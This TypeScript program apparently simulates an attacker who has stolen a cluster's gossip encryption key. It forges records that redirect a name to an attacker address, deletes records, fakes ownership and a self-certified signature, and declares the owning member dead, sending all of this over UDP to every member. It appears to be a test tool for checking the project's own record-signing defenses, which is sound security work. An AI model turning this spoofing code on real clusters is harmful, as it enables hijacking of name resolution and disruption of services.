import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { json } from 'node:stream/consumers';
import { encodeRecord, encodeSignedRecord } from '@kopsctl/gossip/records/record-codec.ts';
import type { GossipRecord } from '@kopsctl/gossip/records/record.ts';
import { RecordSigner } from '@kopsctl/gossip/records/signed/record-signer.ts';
import { encodeMessage } from '@kopsctl/gossip/wire/encode-message.ts';
import type { Message } from '@kopsctl/gossip/wire/message.ts';
import { sealPacket } from '@kopsctl/gossip/wire/packet.ts';
import { createCertificateAuthority } from '@kopsctl/pki/authority.ts';
import { issueLeaf } from '@kopsctl/pki/issue.ts';

/** What a thief does to a gossip ring whose key it has: the arguments of this program, as JSON on standard input. */
export interface Forgery {
  /** Base64. */
  readonly key: string;
  readonly cluster: string;
  readonly port: number;
  /** The addresses of the members that it tells. */
  readonly members: readonly string[];
  /** The name that it moves, and the member that owns it. */
  readonly name: string;
  readonly owner: string;
  /** Where it should lead. */
  readonly address: string;
}

const { key, cluster, port, members, name, owner, address } = (await json(process.stdin)) as Forgery;
const secrecy = { keys: [Buffer.from(key, 'base64')], label: cluster };
const stamp = { ms: Date.now() + 60_000, count: 0 };
const forged: GossipRecord = { name, type: 'A', owner, addresses: [address], stamp, isDeleted: false };

/** The thief certifies itself. */
const authority = await createCertificateAuthority({ commonName: 'gossip-records-ca', nowMs: Date.now() });
const identity = await issueLeaf({
  authority,
  commonName: owner,
  organizations: ['ControlPlane'],
  ipAddresses: [address],
  usages: ['client'],
  validityDays: 1,
  nowMs: Date.now(),
});
const messages: readonly Message[] = [
  { kind: 'user', payload: encodeRecord(forged) },
  { kind: 'user', payload: encodeRecord({ ...forged, addresses: [], isDeleted: true }) },
  { kind: 'user', payload: encodeRecord({ ...forged, owner: 'thief' }) },
  { kind: 'user', payload: encodeSignedRecord(new RecordSigner(identity, cluster).sign(forged)) },
  { kind: 'dead', node: owner, incarnation: 100, from: owner },
];

const form = { compress: false, checksum: false };
const socket = createSocket('udp4').bind(0);
await once(socket, 'listening');
for (const message of messages) {
  for (const member of members) {
    const packet = sealPacket([encodeMessage(message)], secrecy, { ...form, nonce: randomBytes(12) });
    const error = await new Promise<Error | null>((resolve) => socket.send(packet, port, member, resolve));
    if (error !== null) throw error;
  }
}
socket.close();
